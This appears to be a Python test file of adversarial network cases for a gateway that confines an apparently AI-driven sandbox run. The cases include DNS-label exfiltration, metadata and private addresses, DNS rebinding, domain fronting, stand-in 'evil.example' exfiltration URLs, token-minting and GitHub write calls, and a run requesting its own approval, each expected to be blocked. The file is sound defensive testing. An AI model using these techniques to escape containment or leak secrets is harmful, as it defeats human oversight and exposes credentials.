"""Attacks on where a connection leads: names, addresses, TLS, credentials, and what allowed hosts could be used for."""

import ipaddress

from tests.adversarial.raw import (
    ADDRESSES,
    ALLOWED,
    CANARY,
    LIMITED,
    MODELS,
    NOT_LISTED,
    OUTSIDE,
    READING,
    SPLICED,
    UPSTREAM,
    RawCase,
    Try,
    ask,
    tries,
)
from tests.support.hellos import client_hello, with_extension

NOT_PUBLIC = (
    "0.0.0.1", "10.0.0.1", "100.64.0.1", "100.100.100.200", "127.0.0.1", "168.63.129.16", "169.254.169.254", "172.16.0.1",
    "192.0.0.192", "192.0.2.1", "192.88.99.1", "192.168.1.1", "198.18.0.1", "198.51.100.1", "203.0.113.1", "224.0.0.1",
    "240.0.0.1", "255.255.255.255",
)  # fmt: skip
NOT_PUBLIC_6 = (
    "::", "::1", "::127.0.0.1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "64:ff9b:1::a00:1", "2002:7f00:1::", "2001::1",
    "2001:db8::1", "3fff::1", "fc00::1", "fd00:ec2::254", "fd20:ce::254", "fe80::1", "fec0::1", "ff02::1",
)  # fmt: skip
GENERATE = b'{"model": "claude-opus-5", "max_tokens": 1, "messages": []'


def named_4(address: str) -> str:
    return f"v4-{address.replace('.', '-')}.{ADDRESSES}"


def named_6(address: str) -> str:
    return f"v6-{ipaddress.IPv6Address(address).packed.hex()}.{ADDRESSES}"


def leading_to(host: str, address: str) -> Try:
    return Try(
        send=ask(host=host), host=host, status=403, record=f"resolves to {address}, which is"
    )


def posted(path: str, body: bytes = GENERATE + b"}", *headers: str, host: str = MODELS) -> bytes:
    length = f"Content-Length: {len(body)}"
    return ask(length, *headers, line=f"POST {path} HTTP/1.1", host=host, body=body)


def generated(more: bytes) -> bytes:
    return posted("/v1/messages", GENERATE + b", " + more + b"}")


def called(line: str, *headers: str) -> bytes:
    return ask("Content-Length: 0", *headers, line=f"{line} HTTP/1.1", host=CANARY)


CASES = (
    RawCase(
        id="12a",
        tried="DNS over HTTPS at its well-known servers, and over TLS",
        must="403 without a look-up of the name; port 853 is not there",
        record=NOT_LISTED,
        tries=tuple(
            Try(send=ask(line="GET /dns-query?dns=AAABAAABAAAAAAAAA2RuczZnb29nbGUDY29tAAAQAAE HTTP/1.1", host=host), host=host, port=443, tls=True, status=403)
            for host in ("dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com")
        ),
    ),
    RawCase(
        id="13a",
        tried="data in labels below a name that is allowed itself, or looks like it",
        must="403 without a look-up: the data reach no DNS server",
        record=NOT_LISTED,
        tries=tuple(
            Try(send=ask(host=host), host=host, status=403)
            for host in (
                f"c2VjcmV0.{ALLOWED}", f"x{ALLOWED}", f"{ALLOWED}.evil.example", "example.com", f"a.b.{READING}", "addresses.example.com", "addresses.example.com.evil.example",
            )
        ),
    ),
    RawCase(
        id="3a",
        tried="an allowed name whose DNS answer is a private, metadata, documentation, multicast or reserved address",
        must="403, nothing is dialled",
        record="resolves to",
        tries=tuple(leading_to(named_4(address), address) for address in NOT_PUBLIC),
    ),
    RawCase(
        id="3b",
        tried="the same with addresses of version 6, and with those that carry one of version 4",
        must="403, nothing is dialled",
        record="resolves to",
        tries=tuple(leading_to(named_6(address), str(ipaddress.IPv6Address(address))) for address in NOT_PUBLIC_6),
    ),
    RawCase(
        id="14",
        tried="rebinding: one public and one private answer together, and in turns",
        must="403 if any answer is private; what is dialled is what was checked",
        record="resolves to 127.0.0.1",
        tries=(
            Try(send=ask(host=f"mixed.{ADDRESSES}"), host=f"mixed.{ADDRESSES}", status=403),
            Try(send=ask(host=f"turning.{ADDRESSES}"), host=f"turning.{ADDRESSES}", status=200, verdict="allow", record="", arrives=(b"GET / HTTP/1.1",)),
            Try(send=ask(host=f"turning.{ADDRESSES}"), host=f"turning.{ADDRESSES}", status=403),
        ),
    ),
    RawCase(
        id="15",
        tried="a name of ours that is an alias of an internal one",
        must="403 by the address it ends at",
        record="resolves to 10.9.8.7",
        tries=(Try(send=ask(host=f"alias.{ADDRESSES}"), host=f"alias.{ADDRESSES}", status=403),),
    ),
    RawCase(
        id="3c",
        tried="metadata services by name",
        must="403",
        record=NOT_LISTED,
        tries=tuple(Try(send=ask(host=host), host=host, status=403) for host in ("metadata.google.internal", "instance-data.ec2.internal")),
    ),
    RawCase(
        id="x7",
        tried="an address of the sandbox's own range that no name was looked up for",
        must="403: without a name there is nothing to judge",
        record="without looking up a name",
        tries=(Try(send=ask(), host="", status=403), Try(send=client_hello(ALLOWED), host="", port=443, status=0)),
    ),
    RawCase(
        id="22",
        tried="fronting: another name in the TLS hello, none, an encrypted one; another name in the Host header",
        must="ended with an alert, or 403",
        record="",
        tries=(
            *(Try(send=client_hello(OUTSIDE), host=host, port=443, status=0, record="another host") for host in (ALLOWED, SPLICED)),
            *(Try(send=client_hello(None), host=host, port=443, status=0, record="names no server") for host in (ALLOWED, SPLICED)),
            Try(send=with_extension(client_hello(SPLICED), 0xFE0D), host=SPLICED, port=443, status=0, record="encrypted"),
            Try(send=ask(host=OUTSIDE), port=443, tls=True, status=403, record="another host"),
            Try(send=ask(host=SPLICED), port=443, tls=True, status=403, record="another host"),
        ),
    ),
    RawCase(
        id="23",
        tried="something else than TLS to port 443: ssh, SMTP, plain HTTP, another protocol's TLS",
        must="400, 403 or closed; nothing is dialled",
        record="",
        tries=(
            Try(send=b"SSH-2.0-OpenSSH_9.9\r\n\r\n", port=443, record="the request line"),
            Try(send=b"SSH-2.0-OpenSSH_9.9\r\n\r\n", host=SPLICED, port=443, record="the request line"),
            Try(send=b"EHLO evil.example\r\n\r\n", port=443, record="the request line"),
            Try(send=ask(), port=443, status=403, record="does not speak this protocol"),
            Try(send=b"\x16\x03\x01\x00\x04evil", port=443, status=0, record=""),
        ),
    ),
    RawCase(
        id="x8",
        tried="TLS to port 80, or a splice host's rules stretched to plain HTTP",
        must="403",
        record="port 80",
        tries=(
            *(Try(send=ask(host=host), host=host, port=80, tls=True, status=403) for host in (ALLOWED, SPLICED)),
            Try(send=ask(host=SPLICED), host=SPLICED, status=403),
        ),
    ),
    RawCase(
        id="30",
        tried="a redirect of an allowed server to a metadata address and to another host",
        must="goes to the client as it is; the request that follows is judged alone",
        record=NOT_LISTED,
        tries=(
            Try(send=ask(line="GET /redirect HTTP/1.1"), status=302, verdict="allow", record="", arrives=(b"GET /redirect HTTP/1.1",)),
            Try(send=ask(host=OUTSIDE), host=OUTSIDE, status=403),
        ),
    ),
    RawCase(
        id="31",
        tried="a server offers HTTP/3 (`Alt-Svc`)",
        must="the offer does not arrive",
        record="",
        tries=(Try(send=ask(line="GET /offers HTTP/1.1"), status=200, verdict="allow", arrives=(b"GET /offers HTTP/1.1",), lacks=b"alt-svc"),),
    ),
    RawCase(
        id="35",
        tried="the gateway's own names on other ports and paths, and names like them",
        must="404, 403, or a port that is closed",
        record="",
        tries=(
            *(Try(send=ask(host=host), host=host, status=403, record=record) for host, record in (
                ("gateway.internal", "no such connection"), ("control.internal", "no such connection"), ("x.llm.internal", "no such connection"),
            )),
            Try(send=ask(host="git.internal"), host="git.internal", port=443, status=403, record=NOT_LISTED),
            Try(send=ask(host="broker.internal"), host="broker.internal", port=443, status=403, record=NOT_LISTED),
            Try(send=ask(host="canary.internal"), host="canary.internal", port=443, status=403, record=NOT_LISTED),
        ),
    ),
    RawCase(
        id="37",
        tried="a client's own key in any header to a server that gets ours",
        must="only ours arrives; nothing of the answer repeats it",
        record="",
        tries=(
            Try(
                send=called("GET /ok", "X-Api-Key: mine", "Authorization: Bearer mine", "Proxy-Authorization: Basic mine", "Cookie: a=mine", "Private-Token: mine", "X-Goog-Api-Key: mine", "Api-Key: mine", "Connection: x-mine", "X-Mine: mine"),
                host=CANARY, logged=UPSTREAM, status=200, verdict="allow", arrives=(b"GET /ok HTTP/1.1",), lacks=b"canary-",
            ),
        ),
    ),
    RawCase(
        id="38",
        tried="cookies and authentication headers in the answer to a request with our credential",
        must="they do not arrive",
        record="",
        tries=(
            Try(send=called("GET /sets-cookies"), host=CANARY, logged=UPSTREAM, status=200, verdict="allow", arrives=(b"GET /sets-cookies HTTP/1.1",), lacks=b"session="),
            Try(send=called("GET /sets-cookies"), host=CANARY, logged=UPSTREAM, status=200, verdict="allow", arrives=(b"GET /sets-cookies HTTP/1.1",), lacks=b"authenticat"),
        ),
    ),
    RawCase(
        id="39",
        tried="endpoints that mint tokens or keys, by method, path and disguise",
        must="403, 400; not dialled",
        record="",
        tries=(
            *tries(
                (called("POST /app/installations/1/access_tokens"), called("POST /v1/organizations/x/api_keys"), called("POST /oauth/token"), called("DELETE /ok"), called("GET /ok/../admin"), called("GET /OK"), called("GET /ok%2f"), called("GET /ok;admin")),
                host=CANARY, status=0,
            ),
        ),
    ),
    RawCase(
        id="37b",
        tried="other endpoints of a model's API: files, batches, keys, organizations",
        must="403",
        record="",
        tries=tuple(Try(send=posted(path), host=MODELS, status=403) for path in ("/v1/files", "/v1/messages/batches", "/v1/organizations/api_keys", "/v1/complete", "/v1/skills")),
    ),
    RawCase(
        id="40",
        tried="server-side tools, remote MCP, URL sources, files, another model in a generation request",
        must="403: the provider would reach what the run may not",
        record="",
        tries=tuple(
            Try(send=data, host=MODELS, status=403)
            for data in (
                generated(b'"tools": [{"type": "web_search_20250305", "name": "web_search"}]'),
                generated(b'"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]'),
                generated(b'"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]'),
                generated(b'"mcp_servers": [{"type": "url", "url": "https://evil.example/", "name": "x"}]'),
                generated(b'"container": "x"'),
                posted("/v1/messages", b'{"model": "claude-opus-5", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}]}]}'),
                posted("/v1/messages", b'{"model": "claude-opus-5", "messages": [{"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "file_x"}}]}]}'),
                posted("/v1/messages", b'{"model": "other-model", "messages": []}'),
            )
        ),
    ),
    RawCase(
        id="x9",
        tried="a generation request that two JSON readers read differently: a key twice, another charset, trailing data, NaN",
        must="400, 403, 415; not forwarded",
        record="",
        tries=(
            *(
                Try(send=posted("/v1/messages", body), host=MODELS, status=-4)
                for body in (
                    b'{"model": "claude-opus-5", "model": "other", "messages": []}', GENERATE + b"} {}", GENERATE + b', "x": NaN}', b"\xff\xfe" + GENERATE + b"}",
                    GENERATE.decode().encode("utf-16") + b"}", b"", b"[]", b"[" * 5000, GENERATE + b', "\\u006dcp_servers": [{}]}',
                )
            ),
            Try(send=posted("/v1/messages", GENERATE + b"}", "Content-Encoding: gzip"), host=MODELS, status=-4),
        ),
    ),
    RawCase(
        id="41",
        tried="GitHub's API for writing: gists, contents, repositories, forks, GraphQL, dispatches",
        must="403: reading is all that a list of hosts opens",
        record="is not allowed",
        tries=tuple(
            Try(send=ask("Content-Length: 0", f"Authorization: Bearer {'gh' + 'p_mine'}", line=f"{line} HTTP/1.1", host=READING), host=READING, port=443, tls=True, status=403)
            for line in ("POST /gists", "PUT /repos/evil/x/contents/a", "POST /user/repos", "POST /repos/acme/web/forks", "POST /graphql", "POST /repos/acme/web/actions/workflows/1/dispatches", "PATCH /repos/acme/web", "DELETE /repos/acme/web")
        ),
    ),
    RawCase(
        id="42",
        tried="publishing a package with a key of the attacker's own: PUT, POST, MKCOL to a registry",
        must="403",
        record="is not allowed",
        tries=tuple(
            Try(send=ask("Content-Length: 5", "Authorization: Bearer mine", line=f"{line} HTTP/1.1", host=READING, body=b"hello"), host=READING, status=403)
            for line in ("PUT /evil", "POST /legacy/", "PUT /api/v1/crates/new", "MKCOL /x", "PROPFIND /x", "TRACE /x")
        ),
    ),
    RawCase(
        id="43",
        tried="data in the path of an allowed host with limited paths",
        must="403",
        record="this path is not allowed",
        tries=tuple(Try(send=ask(line=f"GET {path} HTTP/1.1", host=LIMITED), host=LIMITED, status=403) for path in ("/evil/main/c2VjcmV0", "/simpl/c2VjcmV0", "/")),
    ),
    RawCase(
        id="44",
        tried="much data to a host that may be read from only: at once, and in many small requests",
        must="403 when the bytes are used up, whatever they are split into",
        record="used up",
        tries=(
            Try(send=ask("Content-Length: 2000000", line="GET / HTTP/1.1", host=f"small.{ADDRESSES}"), host=f"small.{ADDRESSES}", status=403),
            *(Try(send=ask("X: " + "a" * 9000, host=f"small.{ADDRESSES}"), host=f"small.{ADDRESSES}", status=200, verdict="allow", record="", arrives=(b"GET / HTTP/1.1",)) for _ in range(2)),
            Try(send=ask("X: " + "b" * 9000, host=f"small.{ADDRESSES}"), host=f"small.{ADDRESSES}", status=403),
        ),
    ),
    RawCase(
        id="72b",
        tried="asking the broker and the gateway for approval of oneself",
        must="400, 403, 404: what opens a host comes from people only",
        record="",
        tries=(
            Try(send=ask("Content-Length: 30", line="POST /run HTTP/1.1", host="broker.internal", body=b'{"tool": "allow", "argv": [1]}'), host="broker.internal", status=-4),
            Try(send=ask("Content-Length: 2", line="POST /allow HTTP/1.1", host="broker.internal", body=b"{}"), host="broker.internal", status=404),
        ),
    ),
)  # fmt: skip
